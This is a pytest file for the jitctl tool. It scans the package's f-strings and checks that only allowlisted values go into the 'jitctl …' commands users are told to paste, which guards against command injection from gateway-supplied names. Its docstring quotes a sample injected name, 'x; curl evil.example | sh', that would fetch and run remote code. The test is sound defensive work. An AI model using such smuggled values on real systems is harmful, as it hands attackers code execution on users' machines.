"""Commands that people are told to type, with words in them that a gateway has sent."""

import ast
import re
from pathlib import Path

import pytest

import jitctl

#: What may be put behind "jitctl …" in a text: numbers (which jitctl/answers.py holds to be some), our own words.
PLAIN = re.compile(
    r"""one\['id'\]|made\['id'\]|self\._number|self\.id|number|pending|unreviewed|switch|waiting|waiting\[0\]|network\['id'\]
    |pending\[0\]\['id'\]|reply\['requests'\]\[0\]\['id'\]|decision\(\w+\)|verb|verb\.name|command\(.*\)|way\.host|ours""",
    re.VERBOSE,
)


@pytest.mark.parametrize("path", sorted(Path(jitctl.__file__).parent.rglob("*.py")), ids=lambda one: one.name)
def test_no_name_is_put_into_a_command(path: Path) -> None:
    """Attack: a gateway has a network called `x; curl evil.example | sh`, and its user pastes the hint that names it.

    Names come into commands through core/commandline.py alone, which quotes them.
    """
    for node in ast.walk(ast.parse(path.read_text())):
        if not isinstance(node, ast.JoinedStr):
            continue
        before = ""
        for part in node.values:
            if isinstance(part, ast.FormattedValue):
                command = re.search(r"\bjitctl [a-z-]+(?: [^;,.()]*)? ?$", before)
                put = ast.unparse(part.value)
                assert not command or PLAIN.fullmatch(put), f"line {node.lineno}: {put}"
                before += "0"
            elif isinstance(part, ast.Constant):
                before += str(part.value)
